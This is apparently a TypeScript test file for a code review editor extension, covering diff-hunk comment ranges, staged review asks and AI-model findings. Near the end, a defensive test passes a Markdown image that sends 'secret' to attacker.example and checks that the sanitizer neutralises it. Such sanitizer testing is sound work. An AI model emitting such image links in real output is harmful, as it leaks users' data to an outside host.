import * as assert from 'node:assert/strict';
import { askLaneFor, type Target } from '../../../protocol/session';
import { capturePatchset } from '../../../host/capture/capture';
import { openRepo } from '../../../host/capture/repo';
import { mintAskEvent, parseAskCommand } from '../../../host/asks/commands';
import { EMPTY_ASK_PROJECTION, foldAsks, stepAsks } from '../../../host/asks/fold';
import { ASK_QUOTE_MAX_BYTES, boundedQuote, flaggedBoardId, utf8Length, type AskCommand, type AskProjection } from '../../../protocol/asks';
import type { Patchset } from '../../../protocol/patchset';
import { GenerationSnapshot } from '../../../protocol/review';
import {
  agreementWords,
  askContextValue,
  askThreadLabel,
  asksOn,
  commentingSpans,
  discussThreadOn,
  findingActs,
  findingContextValue,
  askMarkdown,
  findingMarkdown,
  findingsOn,
  findingThreadLabel,
  flaggedFindings,
  linesOfRange,
  mergeSpans,
  planFindingRequest,
  planLineStage,
  resolveDocument,
  uncoveredSpans,
  type ShownDocument,
} from '../../../extension/commentsPlan';
import type { TextDocumentRef } from '../../../extension/documentRefs';
import { TestRepo } from '../../fixtures/gitRepo';
import { testContext } from '../asks/gen';
import { boardView, codeRef, elements } from '../webview/boardFixtures';

const lines = (prefix: string, n: number, edit: Record<number, string> = {}) => Array.from({ length: n }, (_, i) => edit[i + 1] ?? `${prefix} line ${i + 1}`).join('\n') + '\n';

/**
 * A real capture: app.js modified at lines 5 and 20 (hunks 2–8 and 17–23 on both sides), an added
 * file, a deleted one, a rename with an edit at line 7, a binary.
 */
function makeRepo(): TestRepo {
  const repo = new TestRepo();
  repo.write('src/app.js', lines('app', 30));
  repo.write('obsolete.txt', lines('obsolete', 5));
  repo.write('docs/old-name.md', lines('doc', 20));
  repo.write('assets/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3]));
  repo.commit('initial');
  repo.branch('feature');
  repo.write('src/app.js', lines('app', 30, { 5: 'app line 5 (changed)', 20: 'app line 20 (changed)' }));
  repo.write('src/new feature.js', lines('feature', 12));
  repo.remove('obsolete.txt');
  repo.remove('docs/old-name.md');
  repo.write('docs/new-name.md', lines('doc', 20, { 7: 'doc line 7 (renamed and edited)' }));
  repo.write('assets/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 9, 9, 9]));
  repo.commit('feature work');
  return repo;
}

function shownOf(ref: TextDocumentRef, active: Patchset, others: Patchset[] = []): ShownDocument {
  const resolved = resolveDocument(ref, active, (id) => others.find((p) => p.id === id));
  assert.ok(resolved.ok, resolved.ok ? '' : resolved.reason);
  return resolved.value;
}

/** The host's own command pipeline (parse, mint, fold), so every command a plan makes is checked by it. */
function project(commands: AskCommand[], sessionId: string): { projection: AskProjection; ids: string[] } {
  const context = testContext(sessionId);
  let projection = EMPTY_ASK_PROJECTION;
  const ids: string[] = [];
  commands.forEach((command, i) => {
    const parsed = parseAskCommand(JSON.parse(JSON.stringify(command)));
    assert.ok(parsed.ok, parsed.ok ? '' : parsed.refusal.message);
    const minted = mintAskEvent(projection, parsed.command, context(i + 1));
    assert.ok(minted.ok, minted.ok ? '' : minted.refusal.message);
    const step = stepAsks(projection, minted.event);
    assert.ok(step.ok, step.ok ? '' : step.refusal.message);
    projection = step.projection;
    ids.push('askId' in minted.event ? minted.event.askId : '');
  });
  return { projection, ids };
}

describe('comments plan', () => {
  let repo: TestRepo;
  let ps: Patchset;
  let earlier: Patchset;

  before(async () => {
    repo = makeRepo();
    const handle = await openRepo(repo.dir);
    assert.ok(handle.ok);
    // An earlier capture of the same review: only app.js's line 5 changed then.
    repo.branch('earlier', 'main');
    repo.write('src/app.js', lines('app', 30, { 5: 'app line 5 (first try)' }));
    repo.commit('first try');
    repo.checkout('feature');
    const captured = await capturePatchset(handle.value, { kind: 'branch', head: 'feature', base: 'main' });
    const first = await capturePatchset(handle.value, { kind: 'branch', head: 'earlier', base: 'main' });
    assert.ok(captured.ok && first.ok);
    ps = captured.value;
    earlier = first.value;
  });

  after(() => repo.cleanup());

  describe('documents', () => {
    it('the checkout shows the head of modified, added and renamed files, never a deleted file', () => {
      assert.equal(shownOf({ kind: 'workspace', path: 'src/app.js' }, ps).side, 'head');
      assert.equal(shownOf({ kind: 'workspace', path: 'docs/new-name.md' }, ps).file.status, 'renamed');
      const deleted = resolveDocument({ kind: 'workspace', path: 'obsolete.txt' }, ps, () => undefined);
      assert.equal(deleted.ok, false);
      assert.match(deleted.ok ? '' : deleted.reason, /deleted by this change/);
      const untouched = resolveDocument({ kind: 'workspace', path: 'docs/old-name.md' }, ps, () => undefined);
      assert.equal(untouched.ok, false, 'a rename’s old path in the checkout is not the renamed file');
      assert.equal(resolveDocument({ kind: 'workspace', path: 'src/app.js' }, null, () => undefined).ok, false);
    });

    it('a blob document names its capture; the old path of a rename finds the renamed file', () => {
      const base = shownOf({ kind: 'blob', patchsetId: ps.id, path: 'docs/old-name.md', side: 'base' }, ps);
      assert.equal(base.file.path, 'docs/new-name.md');
      assert.equal(base.side, 'base');
      const unknown = resolveDocument({ kind: 'blob', patchsetId: earlier.id, path: 'src/app.js', side: 'head' }, ps, () => undefined);
      assert.equal(unknown.ok, false, 'a capture that is not loaded resolves to nothing');
      assert.equal(shownOf({ kind: 'blob', patchsetId: earlier.id, path: 'src/app.js', side: 'head' }, ps, [earlier]).patchsetId, earlier.id);
    });
  });

  describe('commenting ranges', () => {
    it('are the captured hunks of the document’s side, merged', () => {
      const app = shownOf({ kind: 'workspace', path: 'src/app.js' }, ps);
      assert.deepEqual(commentingSpans(app, ps.id), [
        { startLine: 2, endLine: 8 },
        { startLine: 17, endLine: 23 },
      ]);
      const appBase = shownOf({ kind: 'blob', patchsetId: ps.id, path: 'src/app.js', side: 'base' }, ps);
      assert.deepEqual(commentingSpans(appBase, ps.id), [
        { startLine: 2, endLine: 8 },
        { startLine: 17, endLine: 23 },
      ]);
    });

    it('an added file has only a head, a deleted file only a base; a rename has both', () => {
      const added = (side: 'base' | 'head') => shownOf({ kind: 'blob', patchsetId: ps.id, path: 'src/new feature.js', side }, ps);
      assert.deepEqual(commentingSpans(added('head'), ps.id), [{ startLine: 1, endLine: 12 }]);
      assert.deepEqual(commentingSpans(added('base'), ps.id), []);
      const deleted = (side: 'base' | 'head') => shownOf({ kind: 'blob', patchsetId: ps.id, path: 'obsolete.txt', side }, ps);
      assert.deepEqual(commentingSpans(deleted('base'), ps.id), [{ startLine: 1, endLine: 5 }]);
      assert.deepEqual(commentingSpans(deleted('head'), ps.id), []);
      assert.deepEqual(commentingSpans(shownOf({ kind: 'workspace', path: 'docs/new-name.md' }, ps), ps.id), [{ startLine: 4, endLine: 10 }]);
      assert.deepEqual(commentingSpans(shownOf({ kind: 'blob', patchsetId: ps.id, path: 'docs/old-name.md', side: 'base' }, ps), ps.id), [{ startLine: 4, endLine: 10 }]);
    });

    it('a binary file and a document of an earlier capture take none', () => {
      assert.deepEqual(commentingSpans(shownOf({ kind: 'blob', patchsetId: ps.id, path: 'assets/logo.png', side: 'head' }, ps), ps.id), []);
      const old = shownOf({ kind: 'blob', patchsetId: earlier.id, path: 'src/app.js', side: 'head' }, ps, [earlier]);
      assert.ok(earlier.files[0]!.regions.length > 0, 'the earlier capture has regions of its own');
      assert.deepEqual(commentingSpans(old, ps.id), []);
    });

    it('merging joins overlapping and adjacent spans only', () => {
      assert.deepEqual(
        mergeSpans([
          { startLine: 17, endLine: 23 },
          { startLine: 2, endLine: 8 },
          { startLine: 9, endLine: 9 },
          { startLine: 5, endLine: 6 },
          { startLine: 11, endLine: 12 },
        ]),
        [
          { startLine: 2, endLine: 9 },
          { startLine: 11, endLine: 12 },
          { startLine: 17, endLine: 23 },
        ],
      );
      assert.deepEqual(
        uncoveredSpans({ startLine: 1, endLine: 20 }, [
          { startLine: 2, endLine: 8 },
          { startLine: 17, endLine: 23 },
        ]),
        [
          { startLine: 1, endLine: 1 },
          { startLine: 9, endLine: 16 },
        ],
      );
      assert.deepEqual(uncoveredSpans({ startLine: 3, endLine: 7 }, [{ startLine: 2, endLine: 8 }]), []);
    });

    it('an editor range is taken line for line', () => {
      assert.deepEqual(linesOfRange({ start: { line: 4 }, end: { line: 4 } }), { startLine: 5, endLine: 5 });
      assert.deepEqual(linesOfRange({ start: { line: 1 }, end: { line: 7 } }), { startLine: 2, endLine: 8 });
    });
  });

  describe('staging a line ask', () => {
    const request = (ref: TextDocumentRef, startLine: number, endLine: number, text = 'Why this?') => ({
      shown: shownOf(ref, ps),
      activePatchsetId: ps.id,
      lines: { startLine, endLine },
      text,
      lane: 'post-review' as const,
    });

    it('a range of changed lines becomes one stage command the host accepts', () => {
      const planned = planLineStage(request({ kind: 'workspace', path: 'src/app.js' }, 5, 8, 'Explain the change'));
      assert.ok(planned.ok, planned.ok ? '' : planned.reason);
      assert.deepEqual(planned.value, {
        type: 'stage',
        anchor: { kind: 'line', patchsetId: ps.id, path: 'src/app.js', side: 'head', startLine: 5, endLine: 8 },
        text: 'Explain the change',
        intent: 'comment',
        lane: 'post-review',
      });
      assert.equal(project([planned.value], 's-1').projection.counts.staged, 1);
    });

    it('a base-side ask on a rename anchors on the file’s current path', () => {
      const planned = planLineStage(request({ kind: 'blob', patchsetId: ps.id, path: 'docs/old-name.md', side: 'base' }, 7, 7));
      assert.ok(planned.ok);
      assert.deepEqual(planned.value.anchor, { kind: 'line', patchsetId: ps.id, path: 'docs/new-name.md', side: 'base', startLine: 7, endLine: 7 });
    });

    it('a range that leaves the hunks is refused and names the lines that take asks', () => {
      const one = planLineStage(request({ kind: 'workspace', path: 'src/app.js' }, 1, 1));
      assert.equal(one.ok, false);
      assert.equal(one.ok ? '' : one.reason, "Line 1 of src/app.js (new side) is outside the change's hunks; asks go on changed lines only (here: 2–8, 17–23). Nothing was staged.");
      const across = planLineStage(request({ kind: 'workspace', path: 'src/app.js' }, 7, 18));
      assert.equal(across.ok, false);
      assert.match(across.ok ? '' : across.reason, /^Lines 7–18 of src\/app\.js \(new side\) include 9–16, which are outside/);
      const deletedHead = planLineStage(request({ kind: 'blob', patchsetId: ps.id, path: 'obsolete.txt', side: 'head' }, 1, 1));
      assert.match(deletedHead.ok ? '' : deletedHead.reason, /has no changed lines in this review/);
    });

    it('empty text, oversized text and an earlier capture are refused', () => {
      for (const text of ['', '   \n\t']) {
        const planned = planLineStage(request({ kind: 'workspace', path: 'src/app.js' }, 5, 5, text));
        assert.match(planned.ok ? '' : planned.reason, /An ask needs text/);
      }
      const huge = planLineStage(request({ kind: 'workspace', path: 'src/app.js' }, 5, 5, 'x'.repeat(64 * 1024 + 1)));
      assert.match(huge.ok ? '' : huge.reason, /longer than 64 KiB/);
      const old = planLineStage({
        ...request({ kind: 'workspace', path: 'src/app.js' }, 5, 5),
        shown: shownOf({ kind: 'blob', patchsetId: earlier.id, path: 'src/app.js', side: 'head' }, ps, [earlier]),
      });
      assert.match(old.ok ? '' : old.reason, /earlier capture/);
    });

    it('the lane follows the target and who it is for: a branch or a teammate’s request posts a review; a working tree or one’s own request is work still to do', () => {
      const session = (target: Target) => ({ session: { target } });
      const pr: Target = { kind: 'pull-request', provider: 'github', host: 'github.com', owner: 'o', repo: 'r', number: 3 };
      assert.equal(askLaneFor(session({ kind: 'branch', head: 'f', base: 'main' })), 'changes');
      assert.equal(askLaneFor(session({ kind: 'working-tree', base: 'main' })), 'changes');
      assert.equal(askLaneFor({ ...session(pr), pullRequest: { entry: 'teammate' } }), 'post-review');
      assert.equal(askLaneFor({ ...session(pr), pullRequest: { entry: 'own' } }), 'changes');
      assert.equal(askLaneFor(session(pr)), 'post-review', 'a request read without credentials counts as a teammate’s');
      const planned = planLineStage({ ...request({ kind: 'workspace', path: 'src/app.js' }, 5, 5), lane: askLaneFor(session({ kind: 'working-tree', base: 'main' })) });
      assert.ok(planned.ok);
      assert.equal(planned.value.lane, 'changes');
    });
  });

  describe('which asks are on which document', () => {
    it('staged line asks sit on every document of their capture, side and file; other captures’ do not', () => {
      const line = (patchsetId: string, p: string, side: 'base' | 'head', start: number, end = start): AskCommand => ({
        type: 'stage',
        anchor: { kind: 'line', patchsetId, path: p, side, startLine: start, endLine: end },
        text: `ask on ${p}:${start}`,
        intent: 'comment',
        lane: 'post-review',
      });
      const { projection, ids } = project(
        [
          line(ps.id, 'src/app.js', 'head', 5),
          line(ps.id, 'src/app.js', 'base', 20),
          line(ps.id, 'docs/old-name.md', 'base', 7),
          line(earlier.id, 'src/app.js', 'head', 5),
          line(ps.id, 'src/app.js', 'head', 17, 19),
        ],
        's-1',
      );
      const onHead = asksOn(projection, shownOf({ kind: 'workspace', path: 'src/app.js' }, ps));
      assert.deepEqual(
        onHead.map((a) => [a.askId, a.span, a.text]),
        [
          [ids[0], { startLine: 5, endLine: 5 }, 'ask on src/app.js:5'],
          [ids[4], { startLine: 17, endLine: 19 }, 'ask on src/app.js:17'],
        ],
      );
      const onHeadBlob = asksOn(projection, shownOf({ kind: 'blob', patchsetId: ps.id, path: 'src/app.js', side: 'head' }, ps));
      assert.deepEqual(
        onHeadBlob.map((a) => a.askId),
        [ids[0], ids[4]],
        'the head blob shows what the checkout shows',
      );
      assert.deepEqual(
        asksOn(projection, shownOf({ kind: 'blob', patchsetId: ps.id, path: 'src/app.js', side: 'base' }, ps)).map((a) => a.askId),
        [ids[1]],
      );
      assert.deepEqual(
        asksOn(projection, shownOf({ kind: 'blob', patchsetId: earlier.id, path: 'src/app.js', side: 'head' }, ps, [earlier])).map((a) => a.askId),
        [ids[3]],
      );
      for (const renamedPath of ['docs/old-name.md', 'docs/new-name.md']) {
        assert.deepEqual(
          asksOn(projection, shownOf({ kind: 'blob', patchsetId: ps.id, path: renamedPath, side: 'base' }, ps)).map((a) => a.askId),
          [ids[2]],
          renamedPath,
        );
      }
      assert.deepEqual(asksOn(projection, shownOf({ kind: 'workspace', path: 'docs/new-name.md' }, ps)), [], 'a base-side ask is not on the head');
    });

    it('a retired ask is not drawn', () => {
      const context = testContext('s-1');
      let projection = EMPTY_ASK_PROJECTION;
      const apply = (command: AskCommand, ordinal: number) => {
        const minted = mintAskEvent(projection, command, context(ordinal));
        assert.ok(minted.ok);
        const step = stepAsks(projection, minted.event);
        assert.ok(step.ok);
        projection = step.projection;
        return minted.event;
      };
      const staged = apply(
        { type: 'stage', anchor: { kind: 'line', patchsetId: ps.id, path: 'src/app.js', side: 'head', startLine: 5, endLine: 5 }, text: 'gone soon', intent: 'question', lane: 'post-review' },
        1,
      );
      const app = shownOf({ kind: 'workspace', path: 'src/app.js' }, ps);
      assert.equal(asksOn(projection, app).length, 1);
      apply({ type: 'retire', askId: 'askId' in staged ? staged.askId : '' }, 2);
      assert.deepEqual(asksOn(projection, app), []);
    });

    it('labels and context values say the intent (package.json’s menus read them)', () => {
      assert.equal(askThreadLabel('request-change'), 'Staged ask · request change');
      assert.equal(askContextValue('request-change'), 'ask-staged-request-change');
      assert.equal(askContextValue('question'), 'ask-staged-question');
    });
  });

  describe('Flagged findings', () => {
    const sessionId = 's-1';
    const generationId = 'g-0123456789abcdef';
    function generation(): GenerationSnapshot {
      const board = boardView(
        'flagged',
        elements([
          codeRef('c1', 'src/app.js', 5, 5, { patchset_id: ps.id }),
          codeRef('c2', 'docs/new-name.md', 7, 7, { patchset_id: ps.id, side: 'base' }),
          codeRef('c3', 'src/app.js', 20, 20, { patchset_id: ps.id }),
          {
            id: 'f1',
            kind: 'finding',
            author: 'claude',
            severity: 'major',
            category: 'correctness',
            title: 'Line 5 [drops](https://example.com) the <b>old</b> value',
            body_markdown: 'The old value is **lost**.',
            remedy_markdown: 'Keep it.',
            anchor: ['c1', 'c3'],
            status: 'open',
            concurrence: [
              { model: 'claude', agree: 1, total: 1 },
              { model: 'codex', agree: 1, total: 1 },
            ],
            accord: 'concur',
          },
          {
            id: 'f2',
            kind: 'finding',
            author: 'codex',
            severity: 'nit',
            category: 'maintainability',
            title: 'Renamed doc',
            body_markdown: 'b',
            remedy_markdown: 'r',
            anchor: ['c2'],
            status: 'open',
            concurrence: [],
            accord: 'split',
          },
          {
            id: 'f3',
            kind: 'finding',
            author: 'codex',
            severity: 'minor',
            category: 'testing',
            title: 'No code',
            body_markdown: 'b',
            remedy_markdown: 'r',
            anchor: ['missing'],
            status: 'open',
            concurrence: [],
            accord: 'split',
          },
        ]),
      );
      return GenerationSnapshot.parse({
        generationId,
        sessionId,
        patchsetId: ps.id,
        status: 'live',
        lanes: [{ lens: 'flagged', state: 'settled', absence: null, failure: null, board }],
        spend: [],
        timings: [],
        frozen: [],
        excerpts: {},
        citations: [],
      });
    }

    it('each finding is placed at its first anchored code_ref, on the documents showing it', () => {
      const findings = flaggedFindings(generation());
      assert.deepEqual(
        findings.map((f) => [f.findingId, f.codeRef && `${f.codeRef.path}:${f.codeRef.side}:${f.codeRef.startLine}-${f.codeRef.endLine}`]),
        [
          ['f1', 'src/app.js:head:5-5'],
          ['f2', 'docs/new-name.md:base:7-7'],
          ['f3', null],
        ],
      );
      assert.equal(findings[0]!.boardId, flaggedBoardId(sessionId, generationId));
      assert.deepEqual(
        findingsOn(findings, shownOf({ kind: 'workspace', path: 'src/app.js' }, ps)).map((f) => f.findingId),
        ['f1'],
      );
      assert.deepEqual(
        findingsOn(findings, shownOf({ kind: 'blob', patchsetId: ps.id, path: 'docs/old-name.md', side: 'base' }, ps)).map((f) => f.findingId),
        ['f2'],
      );
      assert.deepEqual(findingsOn(findings, shownOf({ kind: 'workspace', path: 'docs/new-name.md' }, ps)), []);
    });

    it('dismissal and a staged change request come from the projection and show in label and context value', () => {
      const [f1, f2] = flaggedFindings(generation());
      assert.ok(f1 && f2);
      const request = planFindingRequest(f1, 'post-review');
      assert.deepEqual(request.anchor, {
        kind: 'finding',
        generationId,
        boardId: f1.boardId,
        findingId: 'f1',
        codeRef: { patchsetId: ps.id, path: 'src/app.js', side: 'head', startLine: 5, endLine: 5 },
      });
      assert.equal(request.intent, 'request-change');
      assert.equal(request.lane, 'post-review');
      const { projection } = project([request, { type: 'dismissFinding', generationId, boardId: f2.boardId, findingId: 'f2' }], sessionId);

      const acts1 = findingActs(f1, projection);
      assert.deepEqual(acts1, { dismissed: false, requestStaged: true });
      assert.equal(findingContextValue(acts1), 'finding-open-requested');
      assert.equal(findingThreadLabel(f1, acts1), 'Flagged · major · concur (claude 1/1, codex 1/1) · change request staged');
      const acts2 = findingActs(f2, projection);
      assert.deepEqual(acts2, { dismissed: true, requestStaged: false });
      assert.equal(findingContextValue(acts2), 'finding-dismissed');
      assert.equal(findingThreadLabel(f2, acts2), 'Flagged · nit · solo · dismissed by you');
      assert.equal(findingContextValue(findingActs(f1, null)), 'finding-open');
      assert.equal(agreementWords(f2), 'solo', 'no second model tallied: the panel and the thread both say solo');
      assert.equal(
        agreementWords({
          accord: 'split',
          concurrence: [
            { model: 'claude', agree: 1, total: 1 },
            { model: 'codex', agree: 0, total: 1 },
          ],
        }),
        'split (claude 1/1, codex 0/1)',
      );

      // The finding ask is drawn as a staged ask on its code_ref too.
      assert.deepEqual(
        asksOn(projection, shownOf({ kind: 'workspace', path: 'src/app.js' }, ps)).map((a) => [a.anchorKind, a.intent, a.span]),
        [['finding', 'request-change', { startLine: 5, endLine: 5 }]],
      );
    });

    it('a finding of another generation is not this one: its dismissal does not carry over', () => {
      const [f1] = flaggedFindings(generation());
      assert.ok(f1);
      const otherGeneration = 'g-fedcba9876543210';
      const { projection } = project([{ type: 'dismissFinding', generationId: otherGeneration, boardId: flaggedBoardId(sessionId, otherGeneration), findingId: 'f1' }], sessionId);
      assert.deepEqual(findingActs(f1, projection), { dismissed: false, requestStaged: false });
    });

    it('the claim is escaped text: no link, no HTML, no emphasis from a title', () => {
      const [f1] = flaggedFindings(generation());
      assert.ok(f1);
      const markdown = findingMarkdown(f1);
      assert.deepEqual(markdown.commands, [], 'a finding trusts no command');
      const source = markdown.source;
      assert.ok(source.startsWith('**Major** · correctness\n\n'), source);
      assert.ok(source.includes('Line 5 \\[drops\\]\\(https\\:\\/\\/example\\.com\\) the \\<b\\>old\\<\\/b\\> value'), source);
      assert.ok(source.includes('The old value is **lost**\\.'), `the body stays Markdown: ${source}`);
    });
  });
});

describe('extension/commentsPlan: model-written Markdown in threads', () => {
  it('makes every image inert (no fetch when a thread opens) and keeps public links', () => {
    const out = askMarkdown('See ![x](https://attacker.example/p.png?d=secret) and [the docs](https://example.com).').source;
    assert.doesNotMatch(out, /(^|[^\\])!\[/, out);
    assert.match(out, /\\\[image\\: x\\\]/, out);
    assert.match(out, /\[the docs\]\(<https:\/\/example\.com>\)/, out);
  });

  it('quotes a finding claim as the panel does: trimmed and bounded, so both name one thread', () => {
    assert.equal(boundedQuote('  Callers match the old text \n'), 'Callers match the old text');
    const long = 'é'.repeat(ASK_QUOTE_MAX_BYTES);
    const cut = boundedQuote(long);
    assert.ok(utf8Length(cut) <= ASK_QUOTE_MAX_BYTES && cut.length === ASK_QUOTE_MAX_BYTES / 2, `${utf8Length(cut)} bytes`);
  });
});

describe('extension/commentsPlan: the thread an editor Discuss continues', () => {
  const AT = '2026-01-01T10:00:00.000Z';
  const anchor = { kind: 'quote', generationId: 'g-1', lens: 'flagged', elementId: 'e4', quote: 'Loop bound is off by one' } as const;

  it('continues the attached thread on exactly this anchor (open or closed), never a detached one', () => {
    const opened = foldAsks([
      { type: 'quoteOpen', threadId: 'qt-1', anchor, openedAt: AT },
      { type: 'quoteOpen', threadId: 'qt-other', anchor: { ...anchor, elementId: 'e5' }, openedAt: AT },
    ]);
    assert.deepEqual(discussThreadOn(opened, anchor), { threadId: 'qt-1', open: true });
    const closed = foldAsks([
      { type: 'quoteOpen', threadId: 'qt-1', anchor, openedAt: AT },
      { type: 'quoteClose', threadId: 'qt-1' },
    ]);
    assert.deepEqual(discussThreadOn(closed, anchor), { threadId: 'qt-1', open: false });
    // A round detached it: Discuss opens a fresh thread instead of reviving it on a stale passage.
    const detached = foldAsks([
      { type: 'quoteOpen', threadId: 'qt-1', anchor, openedAt: AT },
      { type: 'quoteAnchor', threadId: 'qt-1', anchor, detached: true },
    ]);
    assert.equal(discussThreadOn(detached, anchor), undefined);
    assert.equal(discussThreadOn(null, anchor), undefined);
    assert.equal(discussThreadOn(opened, { ...anchor, quote: 'Another title' }), undefined);
  });
});
